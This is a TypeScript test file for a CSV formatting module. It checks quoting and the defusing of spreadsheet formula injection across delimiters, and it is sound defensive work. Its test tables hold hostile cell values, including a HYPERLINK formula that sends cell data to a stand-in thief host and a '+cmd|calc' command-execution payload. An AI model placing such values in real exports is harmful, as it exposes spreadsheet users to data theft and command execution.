import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import {
  csvCell,
  formatCsvRow,
  formatDelimitedRow,
  holdsFormula,
  withoutInnerGuards,
} from '../../../src/foundation/kernel/csv.ts'
import { formulasIn, hostileText } from './support/formulas.ts'

describe('a row of CSV', () => {
  test('any text without a formula is read back unchanged, with numbers and gaps', () => {
    const text = fc
      .string({ unit: 'binary' })
      .filter((each) => !/(?:^|[;,|\t\r\n])[\s\0"]*[=+\-@＝＋－＠]|^[\t\r\n\0]/.test(each))
    const value = fc.oneof(text, fc.integer(), fc.constant(null))
    fc.assert(
      fc.property(fc.array(fc.array(value, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const file = rows.map(formatCsvRow).join('')
        expect(parse(file, { relaxColumnCount: true, recordDelimiter: '\r\n' })).toEqual(
          rows.map((row) => row.map((each) => (each === null ? '' : String(each)))),
        )
      }),
    )
  })

  test('ends with a carriage return and a line feed, and quotes what needs it', () => {
    expect(formatCsvRow(['plain', 'a, b', 'say "yes"', 'two\nlines', 7, null])).toBe(
      'plain,"a, b","say ""yes""","two\nlines",7,\r\n',
    )
  })
})

describe('a formula in a text', () => {
  test.each([
    '=1+1',
    '+cmd|calc',
    '-2+3',
    '@SUM(A1)',
    '=HYPERLINK("https://thief.example?"&A1,"here")',
    ' =1',
    '\u00a0=1',
    '\t=1',
    '\r=1',
    '＝1+1',
    '-',
  ])('%j is defused', (text) => {
    expect(csvCell(text).replace(/^"/, '')).toMatch(/^'/)
  })

  test.each([
    ['Foo;=1+1;bar', "Foo;'=1+1;bar"],
    ['T;@SUM(1)', "T;'@SUM(1)"],
    ['Foo, Inc; -20% sale', "Foo, Inc; '-20% sale"],
    ['a|=1', "a|'=1"],
    ['Foo;\u00a0=1', "Foo;\u00a0'=1"],
    ['Foo;"=1+1"', 'Foo;"\'=1+1"'],
    ['one\r\n=1', "one\r\n'=1"],
    ['one;\t＝1', "one;\t'＝1"],
    ['Foo;;=1', "Foo;;'=1"],
  ])('%j within a text is defused', (text, guarded) => {
    expect(csvCell(text)).toBe(/[",\r\n\t]/.test(guarded) ? `"${guarded.replaceAll('"', '""')}"` : guarded)
    expect(withoutInnerGuards(guarded)).toBe(text)
  })

  test.each([
    'A - B',
    'Foo & Bar; Baz',
    'klaviyo|loox',
    'x;-5;+4930123456',
    'Smith, John @ Home',
    "Tom's; 'tis",
    'a=b',
    'rock-n-roll, e-mail',
  ])('%j is none, and stays as it is', (text) => {
    expect(csvCell(text).replace(/^"|"$/g, '')).toBe(text)
    expect(holdsFormula(text)).toBe(false)
  })

  test('an import refuses what is one for certain, behind any delimiter', () => {
    for (const name of [
      '=1',
      'Foo;=1+1;bar',
      'a, =B1',
      'x|＝1',
      'T;@SUM(1)',
      '-cmd(1)',
      'x; + HYPERLINK ("y")',
      'a;"=1"',
    ])
      expect(holdsFormula(name), name).toBe(true)
    for (const name of ['Foo, Inc; -20% sale', '-Dash-', '@home', '+plus']) expect(holdsFormula(name), name).toBe(false)
  })

  test('no line that is written holds one, at whichever delimiter it is split', () => {
    const value = fc.oneof(hostileText, fc.integer(), fc.constant(null))
    fc.assert(
      fc.property(
        fc.array(value, { minLength: 1, maxLength: 5 }),
        fc.constantFrom(',', ';', '\t', '|'),
        (values, delimiter) => {
          expect(formulasIn(formatDelimitedRow(values, delimiter))).toEqual([])
        },
      ),
      { numRuns: 3_000 },
    )
    // The judge sees what the guard prevents.
    expect(formulasIn('shop.example,"Foo;=1+1;bar"\r\n')).toEqual(['=1+1'])
  })

  test('numbers stay numbers, also those written as text', () => {
    expect([csvCell(-5), csvCell('-5.25'), csvCell('+4930123456')]).toEqual(['-5', '-5.25', '+4930123456'])
  })
})
